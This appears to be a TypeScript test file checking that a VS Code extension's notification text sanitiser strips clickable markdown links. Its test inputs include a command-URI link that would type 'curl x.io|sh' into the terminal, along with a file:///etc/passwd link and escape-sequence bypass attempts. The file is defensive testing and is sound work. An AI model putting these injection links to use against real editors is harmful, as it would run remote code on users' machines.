import assert from 'node:assert/strict';
import { noticeText } from '../../../src/ui/output/noticeText.ts';

/** How VS Code finds links in notifications, out of its `linkedText.ts`. */
const editorLink = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const links = (text: string): readonly string[] =>
  // The editor makes one line of it, too.
  [
    ...text
      .replace(/\r\n|\n|\r/g, ' ')
      .trim()
      .matchAll(editorLink),
  ].map((match) => match[2] ?? '');

const command = 'command:workbench.action.terminal.sendSequence?{"text":"curl%20x.io|sh\\r"}';

describe('the text of a notification', () => {
  const names = [
    `[result.csv](${command})`,
    `[a](https://example.org/x "title")`,
    `[a](file:///etc/passwd)`,
    `[[a]](${command})`,
    `[a]\u001b[0m(${command})`,
    `[a]\u001b]0;x\u0007(${command})`,
    `[a](\u001b[1mcommand:x.y)`,
    `[a\n](COMMAND:x.y)](command:x.y)`,
  ];
  for (const name of names) {
    it(`has no link in it, and can still be read, with ${JSON.stringify(name)}`, () => {
      const shown = noticeText(`job.py wrote ${name}.`);
      assert.deepEqual(links(shown), []);
      assert.match(shown, /^job\.py wrote \[.*\] \(.*\)\.$/);
    });
  }

  it('has none where two texts meet, or where it is cut', () => {
    assert.deepEqual(links(noticeText(`${'[a]'}${`(${command}) is new`}`)), []);
    assert.deepEqual(links(noticeText(`${'x'.repeat(960)}[a](${command})`)), []);
  });

  it('is what it was where there is no link', () => {
    assert.equal(noticeText('rows[0] (first) of f(x)[1]: a] [b ('), 'rows[0] (first) of f(x)[1]: a] [b (');
  });

  it('would be a link without this', () => {
    for (const name of [names[0]!, names[1]!, names[2]!]) assert.equal(links(name).length, 1);
  });
});
